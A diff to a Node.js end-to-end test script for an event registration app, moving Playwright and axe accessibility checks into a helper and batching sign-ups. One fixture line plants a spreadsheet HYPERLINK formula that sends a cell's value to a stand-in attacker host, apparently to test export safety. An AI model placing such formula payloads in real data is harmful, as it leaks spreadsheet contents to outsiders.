@@ -4,15 +4,12 @@
 // other programs read.
 import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
-import { createRequire } from 'node:module';
 import os from 'node:os';
 import path from 'node:path';
-import { base, end, same, tell, top, Visitor } from '../support/visitor.mjs';
-import { boss, event, program, register, run, sql } from '../support/event.mjs';
+import { launch, violations } from '../support/browser.mjs';
+import { base, end, same, tell, Visitor } from '../support/visitor.mjs';
+import { boss, event, program, registerAll, run, sql } from '../support/event.mjs';
 
-const assets = createRequire(path.join(top, 'assets/package.json'));
-const { chromium } = assets('playwright-core');
-const axe = assets('axe-core').source;
 const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'list-'));
 const pictures = process.env.LIST_PICTURES;
 
@@ -22,7 +19,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")';
 
 const hall = async () => {
   const id = await event(admin, programs, { seats: 25 });
-  const people = Array.from({ length: 30 }, (_, i) => register(id, `Person ${String.fromCharCode(65 + (i % 26))}${i}`, { email: `p${i}-${id}-${run}@list.example` }));
+  const people = registerAll(id, Array.from({ length: 30 }, (_, i) => ({ name: `Person ${String.fromCharCode(65 + (i % 26))}${i}`, email: `p${i}-${id}-${run}@list.example` })));
   sql(`update data.registration set country = 'KE', organisation = 'Lake, "Mill" & Co' where id in (${people.slice(0, 7).map((p) => p.id)})`);
   sql(`update data.registration set organisation = $$${FORMULA}$$ where id = ${people[0].id}`);
   const question = (key, position, kind, sensitive) => Number(sql(`with q as (insert into data.question (event_id, key, position, kind, label, options, sensitive)
@@ -56,9 +53,7 @@ const state = (id) => sql(`select state from data.registration where id = ${id}`
 
 // No violation by axe, nothing wider than the phone.
 const good = async (page, lang, what) => {
-  await page.evaluate(axe);
-  const found = await page.evaluate(() => window.axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] })
-    .then((r) => r.violations.map((v) => `${v.id}: ${v.nodes.slice(0, 3).map((n) => n.html).join(' ')}`)));
+  const found = await violations(page);
   const wide = await page.evaluate(() => document.documentElement.scrollWidth) - 360;
   tell(found.length === 0 && wide <= 0, `${lang}: ${what} is for everybody, and as wide as the phone`, `${found.join('\n')} ${wide}`);
   if (pictures) await page.screenshot({ path: path.join(pictures, `${what.replaceAll(' ', '-')}-${lang}.png`), fullPage: true });
@@ -313,7 +308,7 @@ const printed = async (page, lang, { id }) => {
   await good(page, lang, 'the badges');
 };
 
-const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
+const browser = await launch();
 for (const lang of ['en', 'ar']) {
   const made = await hall();
   const page = await phone(browser, lang);
